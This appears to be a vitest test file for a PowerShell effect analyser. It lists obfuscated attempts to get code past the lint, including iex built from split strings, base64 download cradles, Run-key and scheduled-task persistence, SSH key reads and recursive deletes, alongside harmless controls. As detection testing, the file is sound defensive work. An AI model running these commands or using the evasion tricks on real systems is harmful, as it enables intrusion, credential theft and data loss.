import { expect, test } from "vitest";
import { effectsOf } from "./analysis.js";

/** Attempts to get something past the lint of PowerShell: each must need the effect that is named. */
const corpus: readonly (readonly [string, string])[] = [
  ["computed-code", `Invoke-Expression $env:X`],
  ["computed-code", `iex (Get-Content x)`],
  ["computed-code", "i`e`x $env:X"],
  ["computed-code", `& ('i'+'ex') $env:X`],
  ["computed-code", `& ("{1}{0}" -f 'x','ie') 'a'`],
  ["computed-code", `$a = 'i'; $a += 'ex'; & $a 'whoami'`],
  ["computed-code", `& $env:comspec[4,26,25] 'x'`],
  ["computed-code", `& (-join $env:comspec[4,26,25]) 'x'`],
  ["computed-code", `. ($pshome[21]+$pshome[30]+'x') 'a'`],
  ["computed-code", `& (gcm *v*-e*n) 'x'`],
  ["computed-code", `$ExecutionContext.InvokeCommand.InvokeScript('x')`],
  ["computed-code", `[scriptblock]::Create($env:X)`],
  ["network", `[scriptblock]::Create('iwr http://x')`],
  ["network", `iex 'iwr http://x'`],
  ["network", `'iwr http://x' | iex`],
  ["network", `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdyIGh0dHA6Ly94')))`],
  ["network", `IEX (New-Object Net.WebClient).DownloadString('http://x'); iwr http://x`],
  ["computed-code", `New-Object Net.WebClient`],
  ["network", `[Net.WebClient]::new()`],
  ["network", `[System.Net.Sockets.TcpClient]::new('x', 1)`],
  ["computed-code", `New-Object -ComObject WScript.Shell`],
  ["computed-code", `Add-Type -TypeDefinition 'class A {}'`],
  ["computed-code", `[Reflection.Assembly]::Load([byte[]](1,2))`],
  ["computed-code", `[Runtime.InteropServices.Marshal]::Copy(1)`],
  ["computed-code", `[Ref].Assembly.GetType('x')`],
  ["computed-code", `'x'.GetType().Assembly`],
  ["computed-code", `$m = 'Kill'; (Get-Process).$m()`],
  ["computed-code", `(Get-Process).Kill()`],
  ["computed-code", `(Get-Process)."K$x"()`],
  ["computed-code", `Get-Process | ForEach-Object Kill`],
  ["computed-code", `Get-Process | % -MemberName Kill`],
  ["destructive", `Get-Process | Stop-Process`],
  ["destructive", `kill -Name x`],
  ["persistence", `Set-ExecutionPolicy Unrestricted -Scope CurrentUser`],
  ["persistence", `Register-ScheduledTask -TaskName x`],
  [
    "persistence",
    `New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x -Value y`,
  ],
  ["persistence", `Set-Content -Path HKCU:\\x -Value 1`],
  ["computed-code", `Set-Content -Path Function:\\x -Value 1`],
  ["computed-code", `Set-Content -Path Env:PATH -Value 1`],
  ["computed-code", `Set-Alias a iex`],
  ["computed-code", `Set-Variable a iex`],
  ["computed-code", `Get-Date -OutVariable x`],
  ["computed-code", `$p = @{ Path = 'x' }; Get-Content @p`],
  ["computed-code", `$env:PATH = 'x'`],
  ["computed-code", `$PSDefaultParameterValues = @{ 'a:b' = 1 }`],
  ["computed-code", `cmd --% /c curl x`],
  ["network", `cmd /c 'curl http://x'`],
  ["network", `cmd.exe /c "cu^rl http://x"`],
  ["network", `C:\\Windows\\System32\\curl.exe http://x`],
  ["computed-code", `C:\\x\\y.exe`],
  ["network", `powershell -e aQB3AHIAIABoAHQAdABwADoALwAvAHgA`],
  ["network", `pwsh -NoProfile -Command "iwr http://x"`],
  ["computed-code", `powershell -Version 2 -Command 1`],
  ["network", `Invoke-Command -ComputerName x -ScriptBlock { 1 }`],
  ["background-process", `Start-Process notepad`],
  ["background-process", `Start-Job { 1 }`],
  ["outside-work-folder", `Set-Content C:\\x.txt 1`],
  ["outside-work-folder", `1 > C:\\Users\\x.txt`],
  ["outside-work-folder", `Set-Content ..\\x 1`],
  ["work-folder", `Set-Content x.txt 1`],
  ["work-folder", `1 > x.txt`],
  ["destructive", `Remove-Item C:\\Users -Recurse`],
  ["destructive", `rm $env:TEMP`],
  ["credentials", `Get-Content C:\\Users\\x\\.ssh\\id_rsa`],
  ["credentials", `gc $x; type C:\\secret.txt`],
  ["credentials", `Get-Credential`],
  ["network", `Get-Content \\\\host\\share\\x`],
  ["computed-code", `Get-CimInstance Win32_Process -ComputerName x`],
  ["computed-code", `Invoke-CimMethod -ClassName Win32_Process -MethodName Create`],
  ["computed-code", `using module x`],
  ["computed-code", `Import-Module x`],
  ["computed-code", `. .\\x.ps1`],
  ["computed-code", `class A { [void] M() { iex 'x' } }`],
  ["computed-code", `trap { iex $env:X }`],
  ["computed-code", `"$(iex $env:X)"`],
  ["computed-code", `@"\n$(iex $env:X)\n"@`],
  ["computed-code", `& { iex $env:X }`],
  ["computed-code", `function f($c) { & $c }; f curl`],
  ["computed-code", `1 -as 'Net.WebClient'`],
  ["computed-code", `[type]'Net.WebClient'`],
  ["computed-code", `Write-Output a#; iex x`],
  ["computed-code", `Write-Output \u2018a\u2019; iex $env:X`],
  ["computed-code", `${"${"}function:x}`],
  ["computed-code", `Where-Object { $_.Kill() }`],
  ["computed-code", `Get-Process | Select-Object @{ n = 'a'; e = { $_.Kill() } }`],
  ["syntax", `configuration x { }`],
  ["syntax", `if (1 -eq 1 { x }`],
];

test.each(corpus)("%s: %s", async (effect, code) => {
  expect(await effectsOf("powershell", code)).toContain(effect);
});

/** What does nothing beyond printing must need nothing. */
const harmless: readonly string[] = [
  `Write-Output (1337 * 3)`,
  `echo hello`,
  "Wr`ite-Out`put hello",
  `& ('Write' + '-Output') hello`,
  `iex 'Write-Output hello'`,
  `'Write-Output 1' | iex`,
  `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtT3V0cHV0IDE=')))`,
  `[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YQ=='))`,
  `$x = 1..3; foreach ($i in $x) { Write-Output ($i * 2) }`,
  `foreach ($i in 1..3) { $i }`,
  `1,2,3 | ForEach-Object { $_ * 2 } | Measure-Object -Sum`,
  `Get-Process | Where-Object { $_.Id -gt 4 } | Select-Object -First 3 -Property 'Name','Id'`,
  `"{0}-{1}" -f 'a', 'b'`,
  `('c','b','a' | Sort-Object) -join ','`,
  `if ($PSVersionTable.PSVersion.Major -ge 3) { 'new' } else { 'old' }`,
  `function f($a) { $a * 3 }; f 1337`,
  `whoami; hostname; ipconfig /all | Out-Null`,
  `cmd /c echo hello`,
  `cmd.exe /d /c "set /a 1337*3"`,
  `powershell -NoProfile -EncodedCommand MQA=`,
  `[char]65 + 'x'`,
  `Write-Output (''+[char]0x00e9)`,
  `[Math]::Max(1, 2); [guid]::NewGuid().ToString()`,
  `try { throw 'x' } catch { Write-Output 'caught' } finally { 1 }`,
  `Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object Caption`,
  `$env:COMPUTERNAME.Length`,
  `Set-ExecutionPolicy -Scope Process Bypass`,
  `Write-Output a 2>$null`,
  `whoami 2>&1 | Out-Null`,
];

test.each(harmless)("harmless: %s", async (code) => {
  expect(await effectsOf("powershell", code)).toEqual([]);
});

test("on Linux, pwsh runs the programs of Linux and writes its paths", async () => {
  const options = { program: "pwsh", windows: false };
  expect(await effectsOf("powershell", "id; Write-Output 1", options)).toEqual([]);
  expect(await effectsOf("powershell", "& '/usr/bin/curl' 'http://x'", options)).toEqual(["network"]);
  expect(await effectsOf("powershell", "Set-Content /etc/cron.d/x 1", options)).toContain("persistence");
  expect(await effectsOf("powershell", "bash -c 'curl x'", options)).toEqual(["network"]);
  expect(await effectsOf("shell", "pwsh -NoProfile -Command 'iwr http://x'", { windows: false })).toEqual([
    "network",
  ]);
});
